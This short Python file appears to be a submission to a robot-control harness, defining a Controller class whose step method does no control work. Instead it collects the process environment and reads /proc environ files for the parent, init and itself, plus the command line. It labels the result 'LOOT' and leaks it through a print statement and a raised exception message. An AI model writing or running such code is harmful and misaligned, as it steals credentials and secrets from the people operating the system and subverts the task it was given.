import os

EXPECT = {"exception"}


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().decode("latin-1")
    except OSError as exc:
        return f"<{exc}>"


class Controller:
    def __init__(self, robot):
        pass

    def step(self, obs):
        loot = [repr(dict(os.environ))]
        for pid in (os.getppid(), 1, os.getpid()):
            loot.append(_read(f"/proc/{pid}/environ"))
        loot.append(_read("/proc/self/cmdline"))
        print("LOOT", loot)
        raise RuntimeError("LOOT " + " | ".join(loot))
